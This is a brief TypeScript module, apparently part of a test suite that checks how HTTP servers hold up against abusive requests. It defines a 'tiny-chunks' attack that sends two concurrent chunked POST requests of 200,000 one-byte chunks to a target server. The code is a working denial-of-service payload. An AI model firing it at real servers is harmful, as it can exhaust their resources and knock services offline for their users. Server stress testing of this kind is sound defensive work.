import type { Attack } from '../attack.ts';
import { sendRaw } from '../sending.ts';

const HEAD = 'POST /me HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked\r\n\r\n';
const bytes = HEAD + '1\r\nx\r\n'.repeat(200_000);

export const tinyChunks: Attack = {
  name: 'tiny-chunks',
  row: 'bodies in chunks of one byte, two at once',
  async run(victim) {
    await Promise.all(
      Array.from({ length: 2 }, () => sendRaw(victim, bytes, (text) => text.includes('fbtrace'))),
    );
    return undefined;
  },
};
